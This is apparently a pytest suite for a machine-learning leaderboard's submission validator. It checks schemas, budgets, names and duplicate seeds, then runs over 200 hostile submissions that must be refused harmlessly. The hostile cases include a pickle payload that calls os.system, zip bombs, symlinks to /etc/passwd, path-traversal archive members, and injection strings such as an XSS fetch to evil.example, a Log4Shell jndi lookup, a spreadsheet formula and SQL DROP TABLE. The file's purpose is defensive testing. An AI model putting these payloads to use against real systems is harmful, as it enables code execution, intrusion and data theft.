"""Submissions: a good one is scored, a bad one is told everything at once, a hostile one does no harm."""

from __future__ import annotations

import dataclasses
import datetime
import json
import os
import pickle
import re
import shutil
import signal
import struct
import zipfile
from pathlib import Path

import numpy as np
import pytest

import benchmark_data
from benchmark_data import discovery, draws
from benchmark_data.errors import DamagedFile, InvalidInput, OffaxisError, UnknownName
from benchmark_data.variants import splitting
from leaderboard import protocol, record
from leaderboard.scoring import candidates, copies, measure, remarks, submission, verification
from leaderboard.store import results, results_tree
from tests.leaderboard import scored_submission

TASKS = ("toy/spacing_1", "toy/spacing_8")

VERIFIED = results.Verification(
    version="fresh_rows@v2",
    seed="x",
    encoder_digest="0" * 64,
    rows=9_000,
    rows_digest="0" * 64,
    deviation=0.0,
    scores={"mig": results.Compared(codes=0.5, fresh=0.5, margin=0.01)},
    date=datetime.date(2026, 1, 2),
    verified_with={},
)


def test_the_schema_names_the_tiers_and_the_version_of_the_protocol():
    fields = submission.Submission.model_json_schema()["properties"]
    assert fields["tier"]["enum"] == sorted(protocol.TIERS)
    assert fields["protocol"]["const"] == protocol.VERSION


@pytest.fixture
def good(toys, one_tier, tmp_path):
    """A submission of two tasks with two seeds each, as its author would make it."""
    file = submission.init(tmp_path / "work" / "submission", "my_vae", TASKS, tier="smoke", seeds=2)
    content = json.loads(file.read_text("utf-8"))
    content["about"] |= {"title": "My VAE", "authors": "A. Author", "license": "MIT"}
    content["supervision"] = "unsupervised"
    for name, entry in content["tasks"].items():
        rows = np.load(file.parent / name / "rows.npy")
        labels = toys[name].labels(rows)
        for seed in entry["seeds"]:
            seed["budget"] = {"steps": 100, "images": 6400, "seconds": 1.5, "device": "1 core"}
            noise = draws.normal(seed["seed"], rows, labels.shape[1])
            codes = (labels + 0.3 * noise).astype(np.float32)
            np.savez(file.parent / name / f"seed_{seed['seed']}.npz", indices=rows, codes=codes)
    file.write_text(json.dumps(content), "utf-8")
    return file.parent


def edit(folder, change):
    file = folder / "submission.json"
    content = json.loads(file.read_text("utf-8"))
    change(content)
    file.write_text(json.dumps(content), "utf-8")


def problems(folder, **options):
    return [str(problem) for problem in submission.check(folder, **options).problems]


def test_a_good_submission_is_scored(good):
    assert problems(good) == []
    scored = scored_submission.score(good)
    assert [(result.task, result.method, len(result.runs)) for result in scored] == [
        ("toy/spacing_1@v1", "my_vae", 2),
        ("toy/spacing_8@v1", "my_vae", 2),
    ]
    run = scored[0].runs[0]
    assert (run.status, run.supervision, run.budget.steps) == ("recomputed", "unsupervised", 100)
    codes = np.load(good / "toy/spacing_1/seed_0.npz")["codes"]
    task = protocol.task("toy/spacing_1")
    assert (run.scores, run.parts) == measure.score_codes(
        codes, task.labels(), protocol.tier("smoke").measurements, train=len(task.train)
    )


def test_a_submission_that_says_it_was_trained_on_all_rows_is_not_scored_on_held_out_ones(toys, one_tier, tmp_path):
    toys["toy/small.holdout"] = splitting.split(toys["toy/small"]).dataset
    file = submission.init(tmp_path / "s", "my_vae", ["toy/small.holdout"], tier="smoke", seeds=1)
    about = {"title": "My VAE", "authors": "A. Author", "license": "MIT"}
    edit(file.parent, lambda c: c.update(about=about, supervision="reference", hyperparameters={"split": "all"}))
    assert not any("split" in problem for problem in problems(file.parent))
    edit(file.parent, lambda c: c.update(tier="held_out"))
    assert "submission.json: hyperparameters.split: expected 'train' in the tier held_out" in problems(file.parent)[0]
    edit(file.parent, lambda c: c.update(hyperparameters={"beta": 4.0}))
    assert not any("split" in problem for problem in problems(file.parent)), "what it does not say is not known"


@pytest.mark.parametrize(
    ("budget", "message"),
    [
        ({"steps": 6401}, "expected at least as many images as steps, 6,401: .*, received 6,400 images"),
        ({"steps": -100}, r"budget\.steps: expected at least 0, received -100"),
        ({"steps": 10**13}, r"budget\.steps: expected at most 1000000000000, received"),
        ({"images": 10**16}, r"budget\.images: expected at most"),
        ({"seconds": 1e30}, r"budget\.seconds: expected at most 10000000000.0, received 1e\+30"),
    ],
)
def test_a_budget_that_cannot_be(good, run_folder, budget, message):
    written = {"steps": 100, "images": 6400, "seconds": 1.5, "device": "1 core"} | budget
    edit(good, lambda c: c["tasks"][TASKS[0]]["seeds"][1].update(budget=written))
    (problem,) = problems(good)
    assert re.search(message, problem)
    folder = run_folder(budget=written)
    with pytest.raises(OffaxisError, match=message):
        candidates.load(folder)
    with pytest.raises(OffaxisError, match=message):
        list(scored_submission.score_runs([folder]))


def test_the_template_says_what_is_left_to_fill_in(toys, tmp_path):
    file = submission.init(tmp_path / "s", "my_vae", TASKS[:1], tier="smoke", seeds=1)
    assert np.array_equal(np.load(file.parent / "toy/spacing_1/rows.npy"), protocol.task(TASKS[0]).indices)
    expected = (
        "supervision: expected 'unsupervised'",
        "about.authors: expected some text",
        "about.license: expected some text",
        "seed_0.npz: expected an npz file, received no such file. Add seed_0.onnx, encode rows.npy into this",
    )
    assert [part in problem for part, problem in zip(expected, problems(file.parent), strict=True)] == [True] * 4
    with pytest.raises(InvalidInput, match="expected a new path, received an existing folder"):
        submission.init(file.parent, "my_vae", TASKS, tier="smoke", seeds=1)


@pytest.mark.parametrize(
    ("method", "tasks", "seeds", "message"),
    [
        ("My VAE", TASKS, 1, "method: expected a lower-case name .*, received 'My VAE'"),
        ("../x", TASKS, 1, "method: expected a lower-case name .*, received '../x'"),
        ("pca", TASKS, 1, "method: expected a name that differs from 'pca' .*, a reference of the board"),
        ("p_ca", TASKS, 1, "method: expected a name that differs from 'pca' .*, a reference of the board"),
        ("my_vae", (), 1, "tasks of a submission: expected at least one, received none"),
        ("my_vae", TASKS, 0, "seeds of a submission: expected at least 1, received 0"),
    ],
)
def test_init_with_bad_arguments(toys, tmp_path, method, tasks, seeds, message):
    with pytest.raises(InvalidInput, match=message):
        submission.init(tmp_path / "s", method, tasks, tier="smoke", seeds=seeds)


def test_init_with_unknown_names(toys, tmp_path):
    with pytest.raises(UnknownName, match="Did you mean 'toy/small'"):
        submission.init(tmp_path / "s", "my_vae", ["toy/smal"], tier="smoke", seeds=1)
    with pytest.raises(UnknownName, match="tier"):
        submission.init(tmp_path / "s", "my_vae", TASKS, tier="smokey", seeds=1)


def test_init_in_a_tier_that_the_task_cannot_have(toys, tmp_path):
    with pytest.raises(InvalidInput, match="tier held_out of toy/small: expected a dataset that a split rule divides"):
        submission.init(tmp_path / "s", "my_vae", ["toy/small"], tier="held_out", seeds=1)
    assert not (tmp_path / "s").exists()
    toys["toy/small.holdout"] = splitting.split(toys["toy/small"]).dataset
    assert submission.init(tmp_path / "s", "my_vae", ["toy/small.holdout"], tier="held_out", seeds=1).exists()


def test_everything_wrong_is_listed_at_once(good):
    edit(good, lambda c: c.update(selection=5, colour="red"))
    assert ["selection: expected a text, received 5" in each for each in problems(good)] == [True, False]
    assert "colour: expected no such field" in problems(good)[1]
    with pytest.raises(OffaxisError, match="selection"):
        scored_submission.score(good)
    edit(good, lambda c: (c.update(selection="none"), c.pop("colour")))
    edit(good, lambda c: c["tasks"][TASKS[0]].update(dataset_version="9.0.0"))
    (good / TASKS[1] / "seed_0.npz").unlink()
    (good / TASKS[1] / "seed_7.npz").write_bytes(b"")
    np.savez(good / TASKS[1] / "seed_1.npz", indices=np.arange(60), codes=np.zeros((60, 2), np.float32))
    found = problems(good)
    for part in (
        "dataset_version: expected 1.0.0",
        "seed_0.npz: expected an npz file, received no such file",
        "seed_1.npz: indices: expected the rows of toy/spacing_8@v1",
        "received a file that submission.json does not name",
    ):
        assert any(part in problem for problem in found), (part, found)
    assert len(found) == 4


@pytest.mark.parametrize(
    ("change", "message"),
    [
        (lambda c: c["about"].update(code="github.com/a/b"), "about.code: expected text that matches"),
        (
            lambda c: c["tasks"][TASKS[0]]["seeds"][0].update(budget={"steps": "many"}),
            "seeds.0.budget.steps: expected an",
        ),
        (lambda c: c.update(colour="red", hyperparameters={"beta": {}}), "colour: expected no such field"),
        (lambda c: c.update(tier="deks", schema=2, method="My VAE"), "tier: expected 'desk'"),
    ],
)
def test_files_are_looked_at_though_the_form_is_wrong(good, change, message):
    """A newcomer who mends the form should not then be told of the files."""
    edit(good, lambda c: (change(c), c["about"].update(license="")))
    (good / TASKS[1] / "seed_0.npz").unlink()
    found = problems(good)
    for part in (message, "about.license: expected some text", "seed_0.npz: expected an npz file, received no such"):
        assert any(part in problem for problem in found), (part, found)
    assert submission.check(good).submission is None


@pytest.mark.parametrize("encoding", ["utf-8-sig", "utf-16"])
def test_a_byte_order_mark_is_named(good, encoding):
    file = good / "submission.json"
    file.write_bytes(file.read_text("utf-8").encode(encoding))
    assert "expected valid JSON in UTF-8, received a byte order mark. Save it as UTF-8 without" in problems(good)[0]


def test_the_same_codes_for_two_seeds(good):
    shutil.copy(good / TASKS[0] / "seed_0.npz", good / TASKS[0] / "seed_1.npz")
    (problem,) = problems(good)
    assert "expected codes of a separate training for each seed, received the same codes as in" in problem


@pytest.mark.parametrize(
    ("change", "refused"),
    [
        (lambda codes: 3 * codes, True),
        (lambda codes: -np.exp(codes[:, ::-1]), True),
        (lambda codes: np.column_stack([codes, codes[:, 0], np.full(len(codes), 7)]), True),
        (lambda codes: codes + 0.05 * codes[:, ::-1], False),
        (lambda codes: np.column_stack([codes, draws.normal(5, np.arange(len(codes)), 1)]), False),
    ],
    ids=["scaled", "other order, sign and scale", "a copied and a constant latent", "mixed", "one latent more"],
)
def test_one_training_under_two_seeds(good, change, refused):
    """What is refused says the same of every image; what is not may be another training for all that codes tell."""
    with np.load(good / TASKS[0] / "seed_0.npz") as first:
        changed = change(first["codes"].astype(np.float64)).astype(np.float32)
        np.savez(good / TASKS[0] / "seed_1.npz", indices=first["indices"], codes=changed)
    found = problems(good)
    assert len(found) == refused
    for problem in found:
        assert "seed_1.npz: expected codes of a separate training for each seed, received up to order, sign" in problem


def test_runs_without_a_latent_that_varies_are_not_taken_for_one():
    assert not copies.same_training(
        copies.latent_ranks(np.full((60, 2), 1.0)), copies.latent_ranks(np.full((60, 2), 2.0))
    )


def test_a_task_under_a_short_name(good, toys, monkeypatch):
    loads = benchmark_data.load
    monkeypatch.setattr(benchmark_data, "load", lambda name: loads("toy/spacing_1" if name == "toy" else name))
    shutil.copytree(good / TASKS[0], good / "copy")
    for path in (good / "copy").iterdir():
        shutil.move(path, good / "toy" / path.name)
    (good / "copy").rmdir()
    edit(good, lambda c: c["tasks"].update(toy=c["tasks"][TASKS[0]]))
    (problem,) = problems(good)
    assert "tasks.toy: expected the full name of the dataset, toy/spacing_1." in problem


@pytest.mark.parametrize(("key", "near"), [("MIG", "mig"), ("mig_", "mig"), ("dci.completenes", "dci.completeness")])
def test_a_claim_of_a_score_that_is_not_computed(good, run_folder, key, near):
    edit(good, lambda c: c["tasks"][TASKS[0]]["seeds"][0].update(claimed={key: 0.95, "mig": 0.9}))
    (problem,) = problems(good)
    assert "claimed of seed 0: expected one of dci.completeness, dci.disentanglement, dci.informativeness_t" in problem
    assert f"received {key!r}. Did you mean {near!r}?" in problem
    with pytest.raises(UnknownName, match="claimed: expected one of dci"):
        list(scored_submission.score_runs([run_folder(claimed={key: 0.95})]))


def test_a_title_that_prints_nothing_and_a_folder_that_cannot_be_read(good, monkeypatch):
    edit(good, lambda c: c["about"].update(title="\u3164 \u00a0"))
    assert "about.title: expected some text, received nothing" in problems(good)[0]

    def refused(path):
        raise PermissionError(13, "Permission denied", str(path))

    monkeypatch.setattr("os.scandir", refused)
    assert problems(good) == [f"{good}: Permission denied. Make it readable."]


def test_a_claim_has_few_digits(good):
    edit(good, lambda c: c["tasks"][TASKS[0]]["seeds"][0].update(claimed={"mig": 1e300}))
    assert "claimed.mig: expected at most 1000000.0" in problems(good)[0]


def test_a_name_like_one_that_is_published(good):
    published = scored_submission.score(good)
    edit(good, lambda c: c.update(method="myvae"))
    (problem,) = problems(good, published=published)
    assert "a name that differs from 'my_vae' by more than underscores" in problem
    assert problems(good) == []


@pytest.mark.parametrize("name", ["pca", "random_encoder", "groundtruth", "f_lat"])
def test_a_name_of_a_reference(good, run_folder, name):
    """Those of the project, and what looks like one that is published; its own name is free to its authors."""
    published = list(scored_submission.score_runs([run_folder("flat", supervision="reference")]))
    edit(good, lambda c: c.update(method=name, supervision="reference"))
    (problem,) = problems(good, published=published)
    assert "by more than underscores, a reference of the board, received" in problem
    edit(good, lambda c: c.update(method="flat"))
    assert problems(good, published=published) == []


@pytest.mark.parametrize(
    "title",
    [
        "β-VAE",
        "Beta VAE",
        "beta_vae",
        "BETA‑vae",
        "Flat things",
        "PCA",
        "B\u0435t\u0430 VAE",
        "\u0420\u0421A",
        "P\u0421\u0391",
        "\U0001d401eta-\U0001d415\U0001d400\U0001d404",
    ],
)
def test_a_title_of_another_method_or_of_a_reference(good, run_folder, title):
    """A page prints titles, so that rows of one title would be taken for one another."""
    flat = run_folder("flat", supervision="reference", about={"title": "Flat Things"})
    published = list(scored_submission.score_runs([run_folder(), flat]))
    edit(good, lambda c: c["about"].update(title=title))
    (problem,) = problems(good, published=published)
    assert re.search(r"about\.title: expected another title than that of (beta_vae|flat|pca) on the board", problem)
    edit(good, lambda c: c["about"].update(title="β-VAE of mine"))
    assert problems(good, published=published) == []
    edit(good, lambda c: (c.update(method="beta_vae"), c["about"].update(title="β-VAE")))
    assert problems(good, published=published) == [], "the same method, which a reviewer looks at"


def test_the_names_of_references_are_those_of_the_baselines():
    assert discovery.names("baselines.untrained") == record.REFERENCES


def none_spent(budget):
    return budget.model_copy(update={"steps": 0})


def test_what_will_not_be_ranked_and_why_is_said_beforehand(good, run_folder, made_result, monkeypatch):
    runs = submission.check(good).candidates
    assert remarks.unranked(runs, tier="smoke") == [
        f"{task}@v1: my_vae will not be ranked: it has 2 of 5 seeds; too few rows are left to verify an encoder."
        for task in TASKS
    ]
    monkeypatch.setattr(verification, "may_be_verified", lambda task: True)
    migs = (0.1, 0.2, 0.3, 0.4, 0.5)
    other = [made_result(TASKS[0], "my_vae", *migs, status="recomputed", about={"title": "Their VAE"})]
    named = f"{TASKS[0]}@v1: my_vae is 'Their VAE' on the board. If yours is another method, rename it."
    assert remarks.unranked(runs, other, tier="smoke")[0] == named
    about = {"title": runs[0].about.title}
    published = [made_result(TASKS[0], "my_vae", *migs, status="recomputed", about=about)]
    assert remarks.unranked(runs, published, tier="smoke") == [
        f"{TASKS[0]}@v1: my_vae will not be ranked: no ONNX encoder to verify seeds 0, 1.",
        f"{TASKS[1]}@v1: my_vae will not be ranked: it has 2 of 5 seeds; no ONNX encoder to verify seeds 0, 1.",
    ]
    elsewhere = [made_result(TASKS[0], "my_vae", *migs, tier="desk", status="recomputed", about=about)]
    assert "it has 2 of 5 seeds" in remarks.unranked(runs, elsewhere, tier="smoke")[0], "those of this tier count"
    whole = [dataclasses.replace(one, encoder=Path("x.onnx")) for one in runs if one.record.dataset == TASKS[0]]
    assert remarks.unranked(whole, published, tier="smoke") == [
        f"{TASKS[0]}@v1: my_vae will be ranked once its encoders are verified."
    ]
    bare = [
        dataclasses.replace(one, record=one.record.model_copy(update={"budget": none_spent(one.record.budget)}))
        for one in whole
    ]
    assert remarks.unranked(bare, published, tier="smoke")[0] == (
        f"{TASKS[0]}@v1: my_vae has budgets of 0 steps. If it was trained, fill in its steps."
    )
    edit(good, lambda c: c.update(supervision="reference"))
    said = remarks.unranked(submission.check(good).candidates, tier="smoke")
    assert said[0] == f"{TASKS[0]}@v1: my_vae will not be ranked: references are never ranked."


def test_what_a_reviewer_should_look_at_twice(good, run_folder):
    edit(good, lambda c: c["tasks"][TASKS[0]]["seeds"][0].update(claimed={"mig": 0.99}))
    noisy = [run_folder("ground_truth", TASKS[0], noise=1.0), run_folder("random_encoder", TASKS[1], noise=0.01)]
    said = remarks.outliers(scored_submission.score(good), scored_submission.score_runs(noisy, tier="smoke"))
    assert sum("dci." in sentence for sentence in said) == 6, "three scores on two tasks"
    found = [sentence for sentence in said if "mig" in sentence]
    assert [sentence.partition(":")[0] for sentence in found] == [f"{TASKS[0]}@v1", f"{TASKS[0]}@v1", f"{TASKS[1]}@v1"]
    assert "is above that of ground_truth" in found[0]
    assert "mig of seed 0 was claimed as 0.990 and is" in found[1]
    assert "is below that of random_encoder" in found[2]


def test_the_published_schema_is_the_one_that_is_checked():
    published = Path(submission.__file__).with_name("submission.schema.json")
    checked = {"$schema": "https://json-schema.org/draft/2020-12/schema", **submission.Submission.model_json_schema()}
    assert json.loads(published.read_text("utf-8")) == checked, f"write to {published.name}: {json.dumps(checked)}"


# Hostile submissions. Each case is a change to a good one; none may run code, write anything, take a minute or fill the
# memory, and each must be refused with words (or, for mere text, be taken as text).


class Payload:
    """Creates a file when it is unpickled."""

    def __reduce__(self):
        return os.system, ("touch PWNED",)


def header(shape, descr="'<f4'", version=b"\x01\x00", length=None):
    text = f"{{'descr': {descr}, 'fortran_order': False, 'shape': {shape}}}".encode()
    return b"\x93NUMPY" + version + struct.pack("<H", len(text) if length is None else length) + text


def archive(path, members, compression=zipfile.ZIP_DEFLATED):
    with zipfile.ZipFile(path, "w", compression) as file:
        for name, content in members.items():
            file.writestr(name, content)


def with_codes(change):
    """A case that changes the codes of one seed: (indices, codes) -> arrays to save."""

    def case(folder):
        path = folder / TASKS[0] / "seed_0.npz"
        with np.load(path) as found:
            arrays = dict(found)
        np.savez(path, **change(arrays))

    return case


def with_member(name, content):
    """A case that replaces one member of an npz file by raw bytes."""

    def case(folder):
        path = folder / TASKS[0] / "seed_0.npz"
        with zipfile.ZipFile(path) as file:
            members = {member: file.read(member) for member in file.namelist()}
        archive(path, {**members, name: content})

    return case


def with_bytes(content, name=f"{TASKS[0]}/seed_0.npz"):
    return lambda folder: (folder / name).write_bytes(content)


def with_json(change):
    return lambda folder: edit(folder, change)


def set_at(*keys, value):
    def change(content):
        for key in keys[:-1]:
            content = content[key]
        content[keys[-1]] = value

    return with_json(change)


def pickled(folder):
    rows = protocol.task(TASKS[0]).indices
    codes = np.empty((len(rows), 2), object)
    codes[:] = Payload()
    np.savez(folder / TASKS[0] / "seed_0.npz", indices=rows, codes=codes)


def bomb(megabytes, shape):
    def case(folder):
        path = folder / TASKS[0] / "seed_0.npz"
        with (
            zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as file,
            file.open("codes.npy", "w") as member,
        ):
            member.write(header(shape))
            for _ in range(megabytes):
                member.write(bytes(2**20))

    return case


def link(name, target):
    def case(folder):
        path = folder / name
        if path.is_dir():
            shutil.rmtree(path)
        else:
            path.unlink(missing_ok=True)
        path.symlink_to(target)

    return case


def many(count, folders=False):
    def case(folder):
        for number in range(count):
            if folders:
                (folder / f"d{number}").mkdir()
            else:
                (folder / TASKS[0] / f"seed_{number + 9}.npz").touch()

    return case


def deep_folders(folder):
    path = folder
    for _ in range(300):
        path = path / "d"
        path.mkdir()


def strange_name(name):
    return lambda folder: Path(os.fsdecode(os.fsencode(folder) + b"/" + name)).touch()


def fifo(name):
    def case(folder):
        (folder / name).unlink()
        os.mkfifo(folder / name)

    return case


def flipped(position):
    def case(folder):
        path = folder / TASKS[0] / "seed_0.npz"
        content = bytearray(path.read_bytes())
        content[position % len(content)] ^= 0xFF
        path.write_bytes(content)

    return case


def cut(share):
    def case(folder):
        path = folder / TASKS[0] / "seed_0.npz"
        content = path.read_bytes()
        path.write_bytes(content[: int(share * len(content))])

    return case


NESTED = {
    "lists": b"[" * 10_000 + b"]" * 10_000,
    "objects": b'{"a":' * 10_000 + b"1" + b"}" * 10_000,
    "open_lists": b"[" * 1_000_000,
}
SHAPES = [
    "(60, -1)",
    "(-60, -2)",
    "(60, 10000000000)",
    "(99999999999999999999, 2)",
    "(60,)",
    "()",
    "(60, 2, 1)",
    "(60, 1.5)",
    "(60, '2')",
    "(60, None)",
    "(60, 2**40)",
    "(True, 2)",
    "60",
    "(0, 0)",
    "(60, 0)",
    "(60, 1025)",
    "[60, 2]",
]
DTYPES = [
    "'|O'",
    "'<i4'",
    "'<c8'",
    "'<U10'",
    "'|S10'",
    "'|V8'",
    "'<M8[s]'",
    "'|b1'",
    "[('a', '<f4')]",
    "[('a', '|O')]",
    "('<f4', (2, 2))",
    "'<f99'",
    "'not a type'",
    "5",
    "None",
    "__import__('os').system('touch PWNED')",
    "'<f16'",
]
TEXTS = [
    "<script>fetch('https://evil.example')</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "javascript:alert(1)",
    "https://exa\u202emple.org/gro.\u202e",
    "{{ 7 * 7 }}",
    "{% include '/etc/passwd' %}",
    "${jndi:ldap://evil.example/a}",
    "=cmd|' /C calc'!A0",
    "'; DROP TABLE results; --",
    "\\input{/etc/passwd}",
    "[red]rich[/red]",
    "a" * 201,
    "\x1b[31mred",
    "a\x00b",
    "a\nb",
    "\u202etxt.exe",
    "\u2066a\u2069",
    "\ufeffa",
    "\u200bzero",
    "A\u0300" * 99,
    "\U0001f4a9",
    "../../etc/passwd",
    "%2e%2e%2f",
    "CON",
    "-rf",
    "~root",
    "*",
    "",
    " ",
    "𝓶𝔂_𝓿𝓪𝓮",
    "ｍｙ＿ｖａｅ",
]
TEXT_FIELDS = [
    ("about", "title"),
    ("about", "authors"),
    ("about", "paper"),
    ("about", "code"),
    ("about", "bibtex"),
    ("selection",),
]
VALUES = [None, True, -1, 1.5, 10**30, "x", [], {}, [[]], float("nan"), float("inf")]
TYPED_FIELDS = [
    ("schema",),
    ("protocol",),
    ("tier",),
    ("method",),
    ("version",),
    ("supervision",),
    ("tasks",),
    ("about",),
    ("hyperparameters",),
    ("tasks", TASKS[0], "seeds"),
    ("tasks", TASKS[0], "seeds", 0, "seed"),
    ("tasks", TASKS[0], "seeds", 0, "budget"),
    ("tasks", TASKS[0], "seeds", 0, "budget", "steps"),
    ("tasks", TASKS[0], "dataset_digest"),
    ("tasks", TASKS[0], "dataset_version"),
]
TASK_NAMES = [
    "../../etc",
    "toy/../../etc",
    "/etc/passwd",
    "toy/..",
    "toy/.",
    "TOY/SMALL",
    "toy\\small",
    "toy/small/x",
    "toy/",
    "nothing",
    "toy/small@v2",
    "tоy/small",
    "toy/" + 300 * "x",
]

CASES = {
    "pickled codes": pickled,
    "a bare pickle": with_bytes(pickle.dumps(Payload())),
    "a pickle as a member": with_member("codes.npy", pickle.dumps(Payload())),
    "a pickle as submission.json": with_bytes(pickle.dumps(Payload()), "submission.json"),
    "an object header with a pickle": with_member("codes.npy", header("(60, 2)", "'|O'") + pickle.dumps(Payload())),
    "a bomb that declares a gigabyte": bomb(300, "(60, 4473924)"),
    "a bomb that declares little": bomb(300, "(60, 2)"),
    "a bomb as big as is allowed": bomb(118, "(60, 512000)"),
    "a link to a file": link(f"{TASKS[0]}/seed_0.npz", "/etc/passwd"),
    "a link to a device": link(f"{TASKS[0]}/seed_0.npz", "/dev/zero"),
    "a link as submission.json": link("submission.json", "/etc/passwd"),
    "a link to nothing": link(f"{TASKS[0]}/seed_0.npz", "nowhere"),
    "a link to itself": link(f"{TASKS[0]}/seed_0.npz", "seed_0.npz"),
    "a folder that is a link": link(TASKS[0], "/etc"),
    "a link to the folder above": link("toy/up", ".."),
    "a pipe as codes": fifo(f"{TASKS[0]}/seed_0.npz"),
    "a pipe as submission.json": fifo("submission.json"),
    "3,000 files": many(3_000),
    "2,100 folders": many(2_100, folders=True),
    "300 folders in one another": deep_folders,
    "an executable beside it": with_bytes(b"#!/bin/sh\ntouch PWNED\n", "setup.py"),
    "a name that is not UTF-8": strange_name(b"\xff\xfe"),
    "a name with a line break": strange_name(b"a\nb"),
    "a name with an escape": strange_name(b"\x1b[2J"),
    "no submission.json": lambda folder: (folder / "submission.json").unlink(),
    "submission.json is a folder": lambda folder: (
        (folder / "submission.json").unlink(),
        (folder / "submission.json").mkdir(),
    ),
    "submission.json of 100 MB": lambda folder: os.truncate(folder / "submission.json", 10**8),
    "codes of 10 GB on disk": lambda folder: os.truncate(folder / TASKS[0] / "seed_0.npz", 10**10),
    "submission.json is empty": with_bytes(b"", "submission.json"),
    "submission.json is not UTF-8": with_bytes(b'{"schema": "\xff\xfe"}', "submission.json"),
    "submission.json is UTF-16": with_bytes('{"schema": 1}'.encode("utf-16"), "submission.json"),
    "a number of a million digits": with_bytes(b'{"schema": ' + b"9" * 1_000_000 + b"}", "submission.json"),
    "a lone surrogate": set_at("selection", value="\ud800"),
    "an encrypted flag": with_bytes(b"PK\x03\x04\x14\x00\x01\x00" + bytes(100)),
    "members that leave the folder": with_member("../../../tmp/PWNED.npy", b"x"),
    "two members of one name": lambda folder: None,  # replaced below
    "a thousand members": lambda folder: archive(
        folder / TASKS[0] / "seed_0.npz", {f"{n}.npy": b"" for n in range(2000)}
    ),
    "other rows": with_codes(lambda a: a | {"indices": np.arange(60)}),
    "the rows reversed": with_codes(lambda a: a | {"indices": a["indices"][::-1]}),
    "negative rows": with_codes(lambda a: a | {"indices": -a["indices"]}),
    "rows as floats": with_codes(lambda a: a | {"indices": a["indices"].astype(float)}),
    "too few rows": with_codes(lambda a: {name: array[:-1] for name, array in a.items()}),
    "NaN": with_codes(lambda a: a | {"codes": np.full((60, 2), np.nan, np.float32)}),
    "infinity": with_codes(lambda a: a | {"codes": np.full((60, 2), np.inf, np.float32)}),
    "beyond float32": with_codes(lambda a: a | {"codes": np.full((60, 2), 1e300)}),
    "codes as text": with_codes(lambda a: a | {"codes": np.full((60, 2), "1")}),
    "no codes": with_codes(lambda a: {"indices": a["indices"]}),
    "no indices": with_codes(lambda a: {"codes": a["codes"]}),
    "a seed twice": with_json(lambda c: c["tasks"][TASKS[0]]["seeds"].append(c["tasks"][TASKS[0]]["seeds"][0])),
    "the same codes twice": lambda folder: shutil.copy(
        folder / TASKS[0] / "seed_0.npz", folder / TASKS[0] / "seed_1.npz"
    ),
    **{f"nested {name}": with_bytes(content, "submission.json") for name, content in NESTED.items()},
    **{
        f"deep hyperparameters {name}": set_at("hyperparameters", "x", value=value)
        for name, value in {"list": [[[1]]], "object": {"a": 1}, "long": list(range(10)) * 100_000}.items()
    },
    **{f"shape {shape}": with_member("codes.npy", header(shape) + bytes(480)) for shape in SHAPES},
    **{f"dtype {dtype}": with_member("codes.npy", header("(60, 2)", dtype) + bytes(480)) for dtype in DTYPES},
    **{
        f"npy version {v}": with_member("codes.npy", header("(60, 2)", version=v) + bytes(480))
        for v in (b"\x00\x00", b"\x03\x00", b"\xff\xff")
    },
    **{
        f"a header of {n} bytes": with_member("codes.npy", header("(60, 2)", length=n) + bytes(480)) for n in (0, 65535)
    },
    **{f"byte {position} flipped": flipped(position) for position in (0, 3, 30, -1, -5, -22, -40, 700)},
    **{f"cut at {share}": cut(share) for share in (0, 0.01, 0.3, 0.7, 0.99)},
    **{
        f"{'/'.join(map(str, field))} is {value!r}": set_at(*field, value=value)
        for field in TYPED_FIELDS
        for value in VALUES
    },
    **{
        f"task {name!r}": with_json(lambda c, name=name: c["tasks"].update({name: c["tasks"][TASKS[0]]}))
        for name in TASK_NAMES
    },
    **{f"method {text!r}": set_at("method", value=text) for text in TEXTS},
}
TEXT_CASES = {f"{'/'.join(field)} is {text!r}": set_at(*field, value=text) for field in TEXT_FIELDS for text in TEXTS}
VALID_AFTER_ALL = {
    "shape (60, 2, 1)",  # units of one number each
    "members that leave the folder",  # never extracted
    "schema is True",  # equals 1
    "hyperparameters is {}",
    "method is 'x'",
}


def double(folder):
    path = folder / TASKS[0] / "seed_0.npz"
    with zipfile.ZipFile(path) as file:
        codes = file.read("codes.npy")
    with zipfile.ZipFile(path, "a") as file, pytest.warns(UserWarning, match="Duplicate name"):
        file.writestr("codes.npy", codes)


CASES["two members of one name"] = double


def state(folder):
    """Everything below a folder, so that a change shows."""
    return {
        os.fsencode(path): (status.st_mode, status.st_size, status.st_mtime_ns)
        for path in folder.rglob("*")
        for status in [path.lstat()]
    }


def too_long(*_):
    raise AssertionError("a hostile submission took more than 60 s of a processor")


def test_there_are_at_least_200_hostile_cases():
    assert len(CASES) + len(TEXT_CASES) >= 200


def attack(good, monkeypatch, name, case):
    """Change a good submission, look at it, and give the problems; nothing may be written or run."""
    folder = good.parent / "attack"
    shutil.copytree(good, folder)
    case(folder)
    monkeypatch.chdir(good.parent)
    before = state(good.parent)
    signal.signal(signal.SIGPROF, too_long)
    signal.setitimer(signal.ITIMER_PROF, 60)
    try:
        return problems(folder)
    except OffaxisError as error:
        pytest.fail(f"{name}: raised instead of listed: {error}")
    finally:
        signal.setitimer(signal.ITIMER_PROF, 0)
        assert state(good.parent) == before, name
        shutil.rmtree(folder)


def peak_memory():
    """Return the largest resident memory, in MiB, since it was last set back."""
    (line,) = (x for x in Path("/proc/self/status").read_text().splitlines() if x.startswith("VmHWM"))
    return int(line.split()[1]) / 2**10


@pytest.mark.filterwarnings("ignore:.*ignored:benchmark_data.archives.npz.UnknownMembers")
@pytest.mark.filterwarnings("ignore:.*the same in all rows:leaderboard.doubts.SameCodes")
def test_hostile_submissions_are_refused_and_do_no_harm(good, monkeypatch):
    taken = []
    measured = Path("/proc/self/clear_refs").exists()
    if measured:
        Path("/proc/self/clear_refs").write_text("5")  # the peak so far is other tests' and does not count
        before = peak_memory()
    for name, case in CASES.items():
        found = attack(good, monkeypatch, name, case)
        if not found and "flipped" not in name:  # a flipped byte may lie where nobody looks
            taken.append(name)
        assert all(len(problem) < 5_000 and "\x1b" not in problem for problem in found), name
    assert set(taken) == VALID_AFTER_ALL
    if measured:
        assert peak_memory() - before < 1024


def test_hostile_text_is_refused_or_stays_text(good, monkeypatch):
    """What is taken as text is tested on the page, in the browser, in test_site.py."""
    taken = 0
    for name, case in TEXT_CASES.items():
        found = attack(good, monkeypatch, name, case)
        field, _, text = name.partition(" is ")
        taken += not found
        if field in ("about/paper", "about/code") and not found:
            assert text in ("''",), name
        if "\\x" in text or "\\u20" in text or "\\ufeff" in text:
            assert found, name
